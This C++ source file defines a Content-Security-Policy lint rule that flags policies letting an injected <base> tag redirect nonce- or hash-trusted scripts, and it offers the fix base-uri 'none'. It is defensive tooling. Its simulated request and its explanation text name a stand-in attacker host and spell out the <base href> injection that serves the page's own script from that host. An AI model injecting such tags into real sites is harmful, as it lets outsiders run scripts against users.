#include "rules/csp/helpers.hpp"
#include "rules/fixes.hpp"
#include "rules/rule.hpp"

namespace headstrong::rules::csp_base_uri_retargets_scripts {

using namespace csp_rules;

/// The token by which a script from anywhere would be trusted, if the page asks for it: its nonce,
/// or a hash of a script that may load more.
const csp::SourceExpression* trust(const Context& context, const ScriptList& list) {
  const csp::SourceExpression* nonce = find(*list.policy, *list.directive, csp::SourceKind::Nonce);
  const csp::SourceExpression* hash = find(*list.policy, *list.directive, csp::SourceKind::Hash);
  if (nonce == nullptr && hash == nullptr) return nullptr;
  decide::Request request;
  request.type = decide::RequestType::Script;
  request.url = "https://attacker.example/x.js";
  if (nonce != nullptr) request.nonce = nonce->value();
  request.parser_inserted = nonce != nullptr;
  decide::PolicyDecision by;
  if (!allowed_somewhere(context, request, by)) return nullptr;
  return nonce != nullptr ? nonce : hash;
}

void check(const Context& context, Sink& sink) {
  ScriptList list;
  if (context.attacks.allowed(Attack::HttpsScript) || !script_list(context, list)) return;
  const decide::PolicyDecision& base = context.attacks.by(Attack::BaseUri);
  std::string address = "any host";
  const csp::SourceExpression* source = context.attacks.allowed(Attack::BaseUri)
                                            ? base.source
                                            : open_to_strangers(context, base, decide::RequestType::BaseUri, address);
  if (source == nullptr && !context.attacks.allowed(Attack::BaseUri)) return;
  const csp::SourceExpression* token = trust(context, list);
  if (token == nullptr) return;
  const bool listed = source != nullptr;
  Finding& finding = listed ? sink.at(*base.policy, source->span) : sink.at(*list.policy, token->span);
  finding.arguments = {token->kind == csp::SourceKind::Nonce ? "nonce" : "hash and 'strict-dynamic'", address};
  offer_fix(finding, "Set base-uri 'none'", Applicability::Suggestion,
            listed ? replace_value(*base.policy, *base.directive, "'none'")
                   : set_directive(*list.policy, csp::DirectiveName::BaseUri, "'none'"));
}

extern const RuleSpec kRule = {
    {
        .id = "csp/base-uri-retargets-scripts",
        .header = "Content-Security-Policy",
        .severity = Severity::Medium,
        .category = Category::Security,
        .confidence = Confidence::Likely,
        .title = "An injected <base> can redirect the page's trusted scripts",
        .message = "The policy trusts scripts by {0} and lets <base> point relative URLs to {1}.",
        .why = "An injected <base href=\"https://attacker.example/\"> makes the page fetch its own "
               "<script nonce=\"...\" src=\"app.js\"> from the attacker. The nonce is right, so "
               "the attacker's file runs.",
        .advice = "Add base-uri 'none', or base-uri 'self' if the site uses <base> itself; "
                  "default-src doesn't cover it.",
        .references = {"https://www.w3.org/TR/CSP3/#directive-base-uri",
                       "https://developer.mozilla.org/docs/Web/HTTP/Reference/Headers/"
                       "Content-Security-Policy/base-uri",
                       "https://csp.withgoogle.com/docs/strict-csp.html"},
        .bad = "script-src 'nonce-4AEemGb0xJoptIGFP3Nd9A=='; object-src 'none'",
        .good = "script-src 'nonce-4AEemGb0xJoptIGFP3Nd9A=='; object-src 'none'; base-uri "
                "'none'",
    },
    check,
};

}  // namespace headstrong::rules::csp_base_uri_retargets_scripts
